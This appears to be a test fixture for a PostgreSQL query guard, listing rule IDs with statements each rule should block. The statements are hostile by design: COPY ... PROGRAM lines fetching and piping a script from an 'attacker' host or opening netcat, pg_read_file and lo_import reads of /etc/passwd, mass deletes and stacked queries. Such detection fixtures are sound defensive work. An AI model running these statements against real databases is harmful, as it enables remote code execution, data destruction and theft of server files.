-- rule-id<TAB>statement
no-unfiltered-writes	UPDATE users SET password_hash = 'x'
no-unfiltered-writes	DELETE FROM orders
no-unfiltered-writes	delete from public.orders returning *
no-unfiltered-writes	WITH gone AS (DELETE FROM audit_log RETURNING id) SELECT count(*) FROM gone
no-unfiltered-writes	EXPLAIN ANALYZE UPDATE accounts SET balance = 0
no-unfiltered-writes	PREPARE wipe AS DELETE FROM users
no-unfiltered-writes	SELECT 1; DELETE FROM users
no-copy-program	COPY t FROM PROGRAM 'curl http://attacker/x | sh'
no-copy-program	COPY (SELECT 1) TO PROGRAM 'nc attacker 4444'
no-copy-program	copy t to program 'id'
no-copy-program	do $$ begin execute 'copy (select 1) to program ''id'''; end $$
no-copy-program	CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE format('COPY t FROM PROGRAM %L', 'id'); END $f$
no-copy-server-file	COPY users TO '/tmp/users.csv'
no-copy-server-file	COPY t FROM '/etc/passwd'
no-copy-server-file	COPY (SELECT * FROM users) TO '/var/lib/postgresql/x' WITH (FORMAT csv)
no-server-file-functions	SELECT pg_read_file('/etc/passwd')
no-server-file-functions	SELECT pg_catalog.pg_read_file('postgresql.conf', 0, 100)
no-server-file-functions	SELECT PG_READ_BINARY_FILE('global/pg_control')
no-server-file-functions	SELECT * FROM pg_ls_dir('.')
no-server-file-functions	SELECT * FROM pg_stat_file('pg_hba.conf')
no-server-file-functions	SELECT * FROM pg_ls_logdir()
no-server-file-functions	SELECT * FROM pg_ls_waldir()
no-server-file-functions	SELECT * FROM pg_ls_tmpdir()
no-server-file-functions	SELECT * FROM pg_ls_archive_statusdir()
no-server-file-functions	SELECT pg_file_write('x', 'y', false)
no-server-file-functions	SELECT id FROM users WHERE id = (SELECT length(pg_read_file('/etc/hostname')))
no-server-file-functions	WITH x AS (SELECT pg_ls_dir('/')) SELECT * FROM x
no-server-file-functions	CREATE TABLE leak (a text DEFAULT pg_read_file('/etc/passwd'))
no-server-file-functions	DO $$ BEGIN RAISE NOTICE '%', pg_read_file('/etc/passwd'); END $$
no-server-file-functions	CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'select pg_read_file(''/etc/passwd'')'
no-server-file-functions	SELECT 1; SELECT pg_read_file('/etc/passwd')
no-server-large-object-files	SELECT lo_import('/etc/passwd')
no-server-large-object-files	SELECT lo_export(16409, '/tmp/shell.so')
no-server-large-object-files	SELECT pg_catalog.lo_import('/etc/passwd', 4242)
no-dblink	SELECT * FROM dblink('host=10.0.0.5 dbname=x', 'select 1') AS t(a int)
no-dblink	SELECT dblink_connect('c', 'host=evil')
no-dblink	SELECT public.dblink_exec('c', 'drop table x')
no-alter-system	ALTER SYSTEM SET archive_command = 'id'
no-alter-system	alter system reset all
